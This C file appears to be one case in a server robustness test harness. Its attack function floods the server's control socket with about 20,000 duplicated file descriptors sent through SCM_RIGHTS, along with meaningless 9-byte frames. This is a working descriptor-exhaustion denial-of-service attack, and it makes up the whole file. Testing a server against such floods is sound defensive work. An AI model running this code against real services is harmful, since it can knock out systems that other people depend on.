/* Sends 20,000 descriptors over the connection to the server, with frames that mean nothing. */
#define PLACE IN_RUN
#include "attack.h"

enum { AT_ONCE = 60, FRAMES = 340 };

static void attack(void) {
    int link = control_socket();
    if (link < 0) {
        note("no connection to the server");
        return;
    }
    unsigned char frame[9] = {5, 0, 0, 0, 7, 0x7f, 0xff, 0xff, 0xff};
    char control[CMSG_SPACE(AT_ONCE * sizeof(int))] = {0};
    struct iovec bytes = {frame, sizeof frame};
    struct msghdr message = {.msg_iov = &bytes, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(AT_ONCE * sizeof(int));
    int null = open("/dev/null", O_RDWR | O_CLOEXEC), sent = 0;
    for (int i = 0; i < AT_ONCE; i++) memcpy(CMSG_DATA(head) + i * sizeof(int), &null, sizeof(int));
    for (int i = 0; i < FRAMES && sendmsg(link, &message, MSG_NOSIGNAL) > 0; i++) sent += AT_ONCE;
    note("sent %d descriptors (%s)", sent, strerror(errno));
}
